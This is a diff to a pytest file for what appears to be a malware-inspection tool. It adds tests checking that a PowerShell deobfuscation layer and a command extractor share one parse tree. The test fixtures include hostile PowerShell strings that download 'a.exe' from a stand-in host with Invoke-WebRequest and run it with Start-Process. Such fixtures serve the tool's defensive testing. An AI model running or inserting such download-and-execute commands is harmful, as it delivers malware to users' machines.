@@ -80,3 +80,33 @@ HOSTILE: dict[str, Callable[[int], str]] = {
 @pytest.mark.parametrize("shape", list(HOSTILE))
 def test_hostile_inputs_grow_linearly(shell: Shell, shape: str) -> None:
     assert growth(HOSTILE[shape], shell, small=1000) < 30
+
+
+def test_a_powershell_payload_is_parsed_once_by_the_layer_and_the_extractor(monkeypatch: pytest.MonkeyPatch) -> None:
+    from inspector.deobfuscate import powershell as ps_layer
+    from inspector.deobfuscate.powershell import PowerShellLayer
+
+    text = "$u = 'http://x/' + 'a.exe'; iwr $u -OutFile a.exe; Start-Process a.exe"
+    alone = commands_of(payload(text, ArtifactType.POWERSHELL), ScanContext(limits=ScanLimits()))
+    parses: list[bytes] = []
+    real = ps_layer.parse_until
+    monkeypatch.setattr(ps_layer, "parse_until", lambda parser, source, deadline=None: (
+        parses.append(source), real(parser, source, deadline))[1])
+    shared = payload(text, ArtifactType.POWERSHELL)
+    ctx = ScanContext(limits=ScanLimits())
+    PowerShellLayer().analyze(shared, ctx)
+    commands = commands_of(shared, ctx)
+    assert parses == [text.encode()]
+    assert commands == alone
+    assert [c.program for c in commands] == ["invoke-webrequest", "start-process"]
+
+
+def test_a_shared_tree_is_used_only_for_the_exact_text_it_was_parsed_from() -> None:
+    from inspector.deobfuscate.powershell import parse_powershell
+
+    trees: dict[bytes, object] = {}
+    other = parse_powershell(b"Remove-Item x", parsed=trees)  # type: ignore[arg-type]
+    commands = extract_commands("iwr http://x -OutFile a.exe", Shell.POWERSHELL, trees=trees)
+    assert [c.program for c in commands] == ["invoke-webrequest"]
+    assert set(trees) == {b"Remove-Item x", b"iwr http://x -OutFile a.exe"}
+    assert trees[b"Remove-Item x"] is other
